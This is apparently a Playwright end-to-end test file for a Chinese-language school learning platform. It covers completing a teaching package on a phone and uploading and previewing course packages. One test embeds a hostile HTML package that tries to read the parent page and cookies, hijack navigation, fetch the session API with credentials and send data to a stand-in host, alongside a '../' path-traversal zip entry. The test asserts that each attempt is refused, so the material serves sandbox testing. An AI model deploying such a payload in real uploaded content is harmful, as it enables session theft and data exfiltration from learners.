// A principal goes through the demo county's teaching package on the phone; one brings one in that tries to break out.
import { expect, type Browser, type Page } from '@playwright/test'
import { expect_accessible, expect_no_sideways_scrolling, pages_of, test } from '../harness/pages.ts'
import { package_of } from '../harness/packages.ts'
import { start_demo } from '../harness/demo.ts'
import { type Server } from '../harness/server.ts'

let server: Server
test.beforeAll(async () => {
  server = await start_demo({ name: 'browser-packages' })
})
test.afterAll(() => server?.stop())

const as = pages_of(() => server)

const frame_of = (page: Page) => page.frameLocator('iframe[data-package]')
const learnt = (page: Page) => page.locator('[data-learnt]')

test('a package is gone through, left, gone on with, and done', async ({ browser }) => {
  test.setTimeout(120_000)
  const phone = await as(browser, 'principal', { width: 390, height: 844 })
  await phone.goto(`${server.address}/learning`)
  await phone.getByRole('link', { name: /开一次家庭会议/ }).click()
  await phone.getByRole('link', { name: '开始学习' }).click()

  await expect(frame_of(phone).getByRole('heading', { name: /每人说一件高兴的事/ })).toBeVisible()
  await frame_of(phone).getByRole('button', { name: '下一页' }).click()
  await expect(frame_of(phone).getByRole('heading', { name: /只商量一个问题/ })).toBeVisible()
  await expect_accessible(phone)
  await expect_no_sideways_scrolling(phone)
  await phone.waitForTimeout(1_000)

  await phone.reload()
  await expect(frame_of(phone).getByRole('heading', { name: /只商量一个问题/ })).toBeVisible()
  await frame_of(phone).getByRole('button', { name: '下一页' }).click()
  await expect(phone.getByRole('button', { name: /读一读/ }).getByLabel('已完成')).toBeVisible()

  await phone.getByRole('button', { name: /试一试/ }).click()
  await frame_of(phone).getByLabel('趁没忘，马上说').check()
  await frame_of(phone).getByRole('button', { name: '交卷' }).click()
  await expect(frame_of(phone).getByRole('status')).toContainText('得分 0')
  await expect(phone.getByText('得分 0', { exact: true })).toBeVisible()
  await expect(phone.getByRole('button', { name: /试一试/ }).getByLabel('已完成')).toBeHidden()
  for (const right of ['先记下来，等他说完', '这次只挑一个', '问问难在哪里，一起改办法'])
    await frame_of(phone).getByLabel(right).check()
  await frame_of(phone).getByRole('button', { name: '交卷' }).click()
  await expect(phone.getByText('得分 100', { exact: true })).toBeVisible()
  await expect(learnt(phone)).not.toContainText('已完成')

  // It counts as one minute and asks for sixty per cent of it.
  await expect(learnt(phone)).toContainText('本课时已完成', { timeout: 60_000 })
})

/** A principal's page with a new course that awaits the package of its only lesson. */
async function new_package_lesson(browser: Browser, course: string): Promise<Page> {
  const page = await as(browser, 'principal')
  await page.goto(`${server.address}/courses`)
  await page.getByRole('button', { name: '新建课程' }).first().click()
  await page.getByRole('dialog').getByRole('textbox', { name: '课程名称' }).fill(course)
  await page.getByRole('button', { name: '开始制作' }).click()
  await page.getByRole('button', { name: '添加章节' }).click()
  await page.getByRole('button', { name: '课件包', exact: true }).click()
  await page.getByRole('textbox', { name: '课时名称' }).fill('试探')
  return page
}

/** Seen once a file has been sent and looked into. */
const has_come = (page: Page) => page.getByRole('button', { name: '换一个' })

const hostile = `<!DOCTYPE html><html><head><title>x</title></head><body><ul id="seen"></ul><script>
  var seen = document.getElementById('seen')
  function tell(text) { var li = document.createElement('li'); li.textContent = text; seen.appendChild(li) }
  function attempt(name, act) { try { tell(name + ': ' + act()) } catch (e) { tell(name + ': ' + e.name) } }
  attempt('page above', function () { return window.top.document.title })
  attempt('cookie', function () { return document.cookie || 'none' })
  attempt('window', function () { return window.open('/') ? 'opened' : 'none' })
  attempt('place', function () { window.top.location = 'about:blank'; return 'moved' })
  fetch('/api/session', { credentials: 'include' }).then(function (a) { return a.text() }).then(
    function (text) { tell('session: ' + text) }, function () { tell('session: refused') })
  fetch('https://elsewhere.example/?stolen').then(function () { tell('elsewhere: sent') }, function () { tell('elsewhere: refused') })
  var api = window.API
  tell('learner: ' + (api && api.LMSInitialize('') && api.LMSGetValue('cmi.core.student_name')))
</script></body></html>`

test('a package cannot reach the page around it, the session, or another site', async ({ browser }) => {
  const page = await new_package_lesson(browser, '别人做的课件')
  const bad = package_of([{ file: 'a.html', html: hostile }], { '../x.html': 'x' })
  await page.getByLabel('选择课件包').setInputFiles({ name: '坏.zip', mimeType: 'application/zip', buffer: bad })
  await expect(page.getByText(/试图跳出包外/)).toBeVisible({ timeout: 30_000 })
  const good = package_of([{ file: 'a.html', html: hostile }])
  await page.getByLabel('选择课件包').setInputFiles({ name: '课件.zip', mimeType: 'application/zip', buffer: good })
  await expect(has_come(page)).toBeVisible({ timeout: 30_000 })
  await page.getByRole('button', { name: '保存' }).click()
  await expect(page.getByText('已保存。')).toBeVisible()
  await page.getByRole('button', { name: '预览' }).click()

  const seen = frame_of(page).locator('#seen')
  await expect(seen).toContainText('page above: SecurityError')
  await expect(seen).toContainText('cookie: none')
  await expect(seen).toContainText('window: none')
  await expect(seen).toContainText('place: SecurityError')
  await expect(seen).toContainText('session: refused')
  await expect(seen).toContainText('elsewhere: refused')
  await expect(seen).toContainText('learner: 学员')
  expect(page.url()).toContain('/courses/')
})

test('a package that is saved while the server looks into it can be tried as soon as that is done', async ({ browser }) => {
  const page = await new_package_lesson(browser, '刚上传的课件')
  let is_ready = false
  // The real server is often done at once: this one takes until it is told.
  await page.route('**/api/{media/*/digest,courses/*,media/*}', async (route) => {
    const answer = await route.fetch()
    const told = await answer.text()
    await route.fulfill({ response: answer, body: is_ready ? told : told.replace('"state":"ready"', '"state":"checking"') })
  })
  await page.route('**/api/units/*/package', (route) => (is_ready ? route.continue() : route.fulfill({ status: 404, json: {} })))

  const file = package_of([{ file: 'a.html', html: '<meta charset="utf-8"><p>第一页</p>' }])
  await page.getByLabel('选择课件包').setInputFiles({ name: '课件.zip', mimeType: 'application/zip', buffer: file })
  await expect(page.getByText('正在检查“课件.zip”')).toBeVisible()
  await page.getByRole('button', { name: '保存' }).click()
  await expect(page.getByText('已保存。')).toBeVisible()
  await page.getByRole('button', { name: '预览' }).click()
  await expect(page.getByRole('dialog', { name: /预览/ }).getByRole('heading', { name: '试探' })).toBeVisible()
  await expect(page.getByText('没有读出来')).toHaveCount(0)

  is_ready = true
  await expect(frame_of(page).getByText('第一页')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(has_come(page)).toBeVisible() // the field knows it too
  await expect(page.getByRole('button', { name: '保存' })).toBeDisabled() // and nobody has changed anything
})

test('a package that comes after the course was saved is tried once it is saved too', async ({ browser }) => {
  const page = await new_package_lesson(browser, '还在上传的课件')
  let let_go = () => {}
  const line = new Promise<void>((open) => (let_go = open))
  await page.route('**/api/media/*/bytes?*', async (route) => {
    await line
    await route.continue()
  })
  const file = package_of([{ file: 'a.html', html: '<meta charset="utf-8"><p>第一页</p>' }])
  await page.getByLabel('选择课件包').setInputFiles({ name: '课件.zip', mimeType: 'application/zip', buffer: file })
  await expect(page.getByText('正在上传“课件.zip”')).toBeVisible()
  await page.getByRole('button', { name: '保存' }).click()
  await expect(page.getByText('已保存。')).toBeVisible()
  let_go()
  await expect(has_come(page)).toBeVisible()

  await page.getByRole('button', { name: '预览' }).click()
  await expect(page.getByText('保存课程后可以在这里试用课件包。')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: '保存' }).click()
  await expect(page.getByRole('button', { name: '保存' })).toBeDisabled()
  await page.getByRole('button', { name: '预览' }).click()
  await expect(frame_of(page).getByText('第一页')).toBeVisible()
})
